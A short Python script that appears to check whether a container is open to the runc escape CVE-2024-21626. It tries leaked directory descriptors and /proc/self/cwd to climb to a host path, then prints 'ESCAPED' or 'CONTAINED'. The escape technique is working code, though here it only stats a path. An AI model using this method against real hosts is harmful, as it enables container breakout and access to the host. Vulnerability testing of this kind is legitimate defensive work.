"""CVE-2024-21626 (runc): a descriptor of a directory of the host that was not closed, as working directory or to climb from."""
import os
import stat
import sys
found = []
for fd in range(3, 1024):
    try:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            os.fchdir(fd)
            os.stat("../" * 40 + sys.argv[1].lstrip("/"))
            found.append(fd)
    except OSError:
        pass
try:
    os.chdir(os.readlink("/proc/self/cwd"))
    os.stat("../" * 40 + sys.argv[1].lstrip("/"))
    found.append("cwd")
except OSError as error:
    print(error)
print(f"ESCAPED: {found}" if found else "CONTAINED")
